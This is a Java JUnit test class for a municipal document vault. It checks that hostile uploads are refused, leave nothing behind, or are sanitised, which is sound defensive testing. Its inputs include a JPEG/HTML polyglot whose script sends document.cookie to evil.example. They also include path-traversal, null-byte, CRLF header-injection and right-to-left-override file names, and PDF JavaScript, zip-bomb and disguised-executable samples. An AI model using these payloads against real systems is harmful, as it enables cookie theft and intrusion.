package fr.paris.teleservices.vault.upload;

import static org.assertj.core.api.Assertions.assertThat;

import fr.paris.teleservices.vault.TestFiles;
import fr.paris.teleservices.vault.VaultConfig;
import fr.paris.teleservices.vault.VaultFixture;
import fr.paris.teleservices.vault.access.Actor;
import fr.paris.teleservices.vault.document.DepositRequest;
import fr.paris.teleservices.vault.document.DocumentSummary;
import fr.paris.teleservices.vault.document.DocumentType;
import fr.paris.teleservices.vault.document.ReadPurpose;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.util.UUID;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

/** The hostile inputs of SECURITY.md: each refused (nothing left anywhere) or sanitised. */
class HostileUploadTest {

  static final long LIMIT = 2 * 1024 * 1024;
  static VaultFixture fx;

  @BeforeAll
  static void start() {
    // Parts of 5 MiB make a 20 MiB-class upload go multipart, as in production.
    fx = VaultFixture.start(VaultConfig.builder().maxDocumentBytes(LIMIT).maxImagePixels(50_000_000));
  }

  @AfterAll
  static void stop() {
    fx.close();
  }

  @AfterEach
  void nothingWasLeftBehind() {
    assertThat(fx.count("SELECT COUNT(*) FROM vault_document")).isZero();
    assertThat(fx.count("SELECT COUNT(*) FROM vault_journal")).isZero();
    assertThat(fx.count("SELECT COUNT(*) FROM vault_owner_key")).isZero();
    assertThat(fx.objectFiles()).isEmpty();
    assertThat(fx.spoolFiles()).isEmpty();
  }

  static Actor.Usager usager() {
    return Actor.usager("u-" + UUID.randomUUID(), "Usager");
  }

  static RefusalReason refusal(InputStream content, String name, String contentType) {
    try {
      DocumentSummary s = fx.vault.deposit(usager(), DepositRequest.of(content, name, contentType, DocumentType.OTHER));
      fx.vault.delete(Actor.usager(s.ownerId(), "x"), s.id());
      throw new AssertionError("accepted: " + name);
    } catch (UploadRefusedException e) {
      return e.reason();
    }
  }

  static Arguments hostile(String what, byte[] content, String name, String type, RefusalReason expected) {
    return Arguments.of(what, content, name, type, expected);
  }

  static java.util.stream.Stream<Arguments> hostileUploads() {
    return java.util.stream.Stream.of(
        hostile("EICAR named .pdf", TestFiles.EICAR.getBytes(StandardCharsets.US_ASCII), "facture.pdf", "application/pdf", RefusalReason.TYPE_NOT_ALLOWED),
        hostile("a zip named .pdf", TestFiles.zip(), "avis.pdf", "application/pdf", RefusalReason.TYPE_NOT_ALLOWED),
        hostile("HTML renamed .pdf", TestFiles.html(), "avis.pdf", "application/pdf", RefusalReason.TYPE_NOT_ALLOWED),
        hostile("SVG with a script", TestFiles.svg(), "photo.svg", "image/svg+xml", RefusalReason.TYPE_NOT_ALLOWED),
        hostile("SVG renamed .png", TestFiles.svg(), "photo.png", "image/png", RefusalReason.TYPE_NOT_ALLOWED),
        hostile("PDF with OpenAction JavaScript", TestFiles.pdfWithOpenActionJavaScript(), "avis.pdf", "application/pdf", RefusalReason.PDF_ACTIVE_CONTENT),
        hostile("PDF with an embedded executable", TestFiles.pdfWithEmbeddedFile(), "attestation.pdf", null, RefusalReason.PDF_ACTIVE_CONTENT),
        hostile("PDF hiding /JS behind #xx escapes", TestFiles.pdfWithEscapedJavaScriptName(), "a.pdf", null, RefusalReason.PDF_ACTIVE_CONTENT),
        hostile("PDF needing a password", TestFiles.encryptedPdf("user-secret"), "rib.pdf", null, RefusalReason.PDF_ENCRYPTED_OR_UNREADABLE),
        hostile("PDF header then garbage", "%PDF-1.7\nnot really".getBytes(StandardCharsets.US_ASCII), "a.pdf", null, RefusalReason.PDF_ENCRYPTED_OR_UNREADABLE),
        hostile("a pixel bomb PNG", TestFiles.pngHeaderOnly(100_000, 100_000), "scan.png", "image/png", RefusalReason.IMAGE_TOO_LARGE_PIXELS),
        hostile("a truncated JPEG", java.util.Arrays.copyOf(TestFiles.jpeg(100, 100), 40), "a.jpg", null, RefusalReason.IMAGE_UNREADABLE),
        hostile("WebP", TestFiles.webpHeader(), "photo.webp", "image/webp", RefusalReason.IMAGE_FORMAT_NOT_SUPPORTED),
        hostile("HEIC from an iPhone", TestFiles.heicHeader(), "IMG_0001.HEIC", "image/heic", RefusalReason.IMAGE_FORMAT_NOT_SUPPORTED),
        hostile("a gzip bomb named .pdf", TestFiles.gzipBomb(), "avis.pdf", "application/pdf", RefusalReason.TYPE_NOT_ALLOWED),
        hostile("a Windows executable named .pdf", "MZ\u0090\0\3\0\0\0This program cannot be run in DOS mode".getBytes(StandardCharsets.ISO_8859_1), "avis.pdf", null, RefusalReason.TYPE_NOT_ALLOWED),
        hostile("a PDF declared as a JPEG", TestFiles.pdf("x"), "photo.jpg", "image/jpeg", RefusalReason.TYPE_MISMATCH),
        hostile("a PDF named .exe", TestFiles.pdf("x"), "setup.exe", null, RefusalReason.TYPE_MISMATCH),
        hostile("a JPEG declared as PDF", TestFiles.jpeg(50, 50), "scan.pdf", null, RefusalReason.TYPE_MISMATCH),
        hostile("nothing at all", new byte[0], "vide.pdf", null, RefusalReason.EMPTY));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileUploads")
  void refusedAndNothingKept(String what, byte[] content, String name, String type, RefusalReason expected) {
    assertThat(refusal(new ByteArrayInputStream(content), name, type)).isEqualTo(expected);
  }

  @Test
  void aStreamPastTheLimitStopsBeingReadRightAfterIt() {
    TestFiles.Endless tail = new TestFiles.Endless();
    assertThat(refusal(TestFiles.endlessPdf(tail), "gros.pdf", "application/pdf")).isEqualTo(RefusalReason.TOO_LARGE);
    assertThat(tail.served).isLessThanOrEqualTo(LIMIT + 1);
  }

  @Test
  void aPhotosExifAndGpsPositionAreNotKept() {
    Actor.Usager usager = usager();
    byte[] photo = TestFiles.withExif(TestFiles.jpeg(320, 240), 1);
    assertThat(new String(photo, StandardCharsets.ISO_8859_1)).contains("Exif").contains(TestFiles.SECRET_ADDRESS);
    DocumentSummary summary =
        fx.vault.deposit(usager, DepositRequest.of(new ByteArrayInputStream(photo), "IMG_0001.jpg", "image/jpeg", DocumentType.PROOF_OF_ADDRESS));
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      fx.vault.read(usager, summary.id(), ReadPurpose.DOWNLOAD, out);
      String stored = new String(out.toByteArray(), StandardCharsets.ISO_8859_1);
      assertThat(stored).startsWith("\u00ff\u00d8").doesNotContain("Exif").doesNotContain(TestFiles.SECRET_ADDRESS);
      // The GPS latitude rational 48/1 as it was written (little-endian), gone with the segment.
      assertThat(stored).doesNotContain(new String(new byte[] {48, 0, 0, 0, 1, 0, 0, 0, 51, 0, 0, 0}, StandardCharsets.ISO_8859_1));
    } finally {
      fx.vault.destroyVault(usager, usager.ownerId());
    }
  }

  @Test
  void aJpegHtmlPolyglotLosesItsHtml() {
    Actor.Usager usager = usager();
    ByteArrayOutputStream polyglot = new ByteArrayOutputStream();
    polyglot.writeBytes(TestFiles.jpeg(64, 64));
    polyglot.writeBytes("<html><script>document.location='https://evil.example/'+document.cookie</script></html>".getBytes(StandardCharsets.US_ASCII));
    DocumentSummary summary =
        fx.vault.deposit(usager, DepositRequest.of(new ByteArrayInputStream(polyglot.toByteArray()), "photo.jpg", null, DocumentType.OTHER));
    try {
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      fx.vault.read(usager, summary.id(), ReadPurpose.DOWNLOAD, out);
      assertThat(new String(out.toByteArray(), StandardCharsets.ISO_8859_1)).doesNotContain("<script").doesNotContain("<html");
    } finally {
      fx.vault.destroyVault(usager, usager.ownerId());
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("hostileNames")
  void hostileFileNamesAreSanitised(String declared, String expected) {
    Actor.Usager usager = usager();
    DocumentSummary summary =
        fx.vault.deposit(usager, DepositRequest.of(new ByteArrayInputStream(TestFiles.pdf("x")), declared, null, DocumentType.OTHER));
    try {
      assertThat(summary.fileName()).isEqualTo(expected);
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      assertThat(fx.vault.read(usager, summary.id(), ReadPurpose.DOWNLOAD, out).fileName()).isEqualTo(expected);
      assertThat(fx.objectKey(summary.id())).matches("documents/[0-9a-f]{32}");
    } finally {
      fx.vault.destroyVault(usager, usager.ownerId());
    }
  }

  static java.util.stream.Stream<Arguments> hostileNames() {
    return java.util.stream.Stream.of(
        Arguments.of("../../x%00.pdf", "x%00.pdf"),
        Arguments.of("..\\..\\windows\\x\u0000.pdf", "x.pdf"),
        Arguments.of("avis\r\nSet-Cookie: a=b.pdf", "avisSet-Cookie_ a=b.pdf"),
        Arguments.of("facture\u202Efdp.exe.pdf", "facturefdp.exe.pdf"),
        Arguments.of("\u2066secret\u2069.pdf", "secret.pdf"),
        Arguments.of("a".repeat(10_000) + ".pdf", "a".repeat(116) + ".pdf"),
        Arguments.of("CON.pdf", "_CON.pdf"),
        Arguments.of("nul.tar.pdf", "_nul.tar.pdf"),
        Arguments.of("  .hidden .pdf. ", "hidden.pdf"),
        Arguments.of(null, "document.pdf"),
        Arguments.of("Scan 12.03.2024", "Scan 12.03.2024.pdf"));
  }
}
